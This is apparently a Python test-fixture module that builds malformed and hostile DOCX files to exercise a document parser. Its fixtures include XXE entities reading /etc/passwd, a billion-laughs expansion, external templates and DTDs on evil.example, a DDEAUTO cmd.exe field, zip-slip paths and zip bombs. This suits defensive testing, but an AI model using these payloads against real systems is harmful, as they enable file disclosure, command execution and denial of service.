"""DOCX files that are made to hurt."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{}"/>{}</Relationships>'
)
_MORE = (
    '<Relationship Id="r{0}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{0}" '
    'Target="{1}" TargetMode="External"/>'
)
PARAGRAPH = "<w:p><w:r><w:t>Registered Nurse</w:t></w:r></w:p>"


def package(
    body: str = PARAGRAPH, *, head: str = "", target: str = "word/document.xml", document: str | bytes = "", **more
) -> bytes:
    """A DOCX file with that body; `more` are further parts by their names."""
    made = io.BytesIO()
    external = "".join(
        _MORE.format(kind, address)
        for kind, address in (("attachedTemplate", "http://evil.example/x.dotm"), ("image", "file:///etc/passwd"),
                              ("oleObject", "\\\\evil.example\\share\\x"), ("frame", "http://127.0.0.1:9/"))
    )  # fmt: skip
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELATION.format(target, ""))
        archive.writestr(
            "word/document.xml", document or f"{head}<w:document {NAMESPACE}><w:body>{body}</w:body></w:document>"
        )
        archive.writestr("word/_rels/document.xml.rels", _RELATION.format("x", external).replace('Id="rId1"', 'Id="q"'))
        for name, content in more.get("parts", {}).items():
            archive.writestr(name, content)
    return made.getvalue()


def nested(tag: str, depth: int, inside: str = PARAGRAPH) -> str:
    """`inside` within so many elements."""
    return f"<w:{tag}>" * depth + inside + f"</w:{tag}>" * depth


def _lying() -> bytes:
    """A part that unpacks to more than its entry says."""
    return package("<w:p/>" * 5_000_000).replace((5_000_000 * 6).to_bytes(4, "little")[:3], b"\x10\0\0")


_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>"  # fmt: skip

FILES: dict[str, Callable[[], bytes]] = {
    "a whole one": package,
    "laughs": lambda: package("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", head=_LAUGHS),
    "external entity": lambda: package("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
                                       head='<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "external entity in UTF-16": lambda: package(document=(
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document {NAMESPACE}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>').encode("utf-16")),
    "external types": lambda: package(head='<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
    "included text": lambda: package('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                                     'parse="text"/>' + PARAGRAPH),
    "fields that fetch": lambda: package('<w:p><w:r><w:instrText>INCLUDEPICTURE "http://evil.example"</w:instrText></w:r>'
                                         '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>'),
    "macros": lambda: package(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0Shell"}),
    "names out of the folder": lambda: package(parts={"../../pwned": "x", "/pwned": "x", "C:\\pwned": "x", "a\0b": "x"}),
    "the document out of the folder": lambda: package(target="../../../../etc/passwd"),
    "the document is elsewhere": lambda: package(target="file:///etc/passwd"),
    "deep elements": lambda: package(nested("sdt", 100_000)),
    "elements as deep as may be": lambda: package(nested("sdt", 240)),
    "deep tables": lambda: package(nested("tbl><w:tr><w:tc", 60).replace("</w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>")),
    "deep text boxes": lambda: package(nested("txbxContent", 200)),
    "deep runs": lambda: package(f"<w:p>{nested('r', 230, '<w:t>' + 'x' * 90_000 + '</w:t>')}</w:p>"),
    "many paragraphs": lambda: package("<w:p/>" * 300_000),
    "many elements": lambda: package("<w:p/>" * 8_000_000),
    "many elements that differ": lambda: package("".join(f'<w:p w:x="{i * 7919 % 999_983:x}"/>' for i in range(1_500_000))),
    "many attributes": lambda: package("<w:p " + " ".join(f'a{i}="x"' for i in range(100_000)) + "/>"),
    "many runs": lambda: package("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 90_000 + "</w:p>"),
    "many rows": lambda: package("<w:tbl>" + "<w:tr><w:tc><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr>" * 9_000 + "</w:tbl>"),
    "a long text": lambda: package("<w:p><w:r><w:t>" + "a" * 12_000_000 + "</w:t></w:r></w:p>"),
    "a zip bomb": lambda: package(parts={"word/media/x.png": b"\0" * 60_000_000}),
    "a bomb of a part": lambda: package("<w:p>" + " " * 49_000_000 + "</w:p>"),
    "a part that lies": _lying,
    "many parts": lambda: package(parts={f"word/{i}.xml": "<x/>" for i in range(20_000)}),
    "equal names": lambda: package(parts={"word/./document.xml": "<x/>", "Word/Document.xml": "<x/>"}),
    "cut": lambda: package()[:-30],
    "no zip": lambda: b"PK\x03\x04" + b"\xff" * 1_000,
    "an old one": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000,
    "empty": lambda: b"",
    "control characters": lambda: package("<w:p><w:r><w:t>Nurse \u202e\u2066\x85\x9b TBD</w:t></w:r></w:p>"),
}  # fmt: skip
